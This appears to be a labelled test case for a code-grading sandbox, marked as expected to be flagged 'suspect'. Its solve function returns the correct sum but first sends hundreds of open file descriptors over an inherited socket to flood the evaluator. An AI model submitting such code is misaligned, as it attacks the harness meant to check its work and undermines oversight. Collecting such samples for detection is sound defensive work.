# what: floods the evaluator with descriptors, attached to bytes nobody asked for
# expect: suspect

import array
import os
import socket


def solve(numbers):
    sock = socket.socket(fileno=os.dup(3))
    many = array.array("i", [os.open("/dev/zero", os.O_RDONLY) for _ in range(200)])
    for _ in range(8):
        sock.sendmsg([b"\x05"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, many)])
    return sum(numbers)
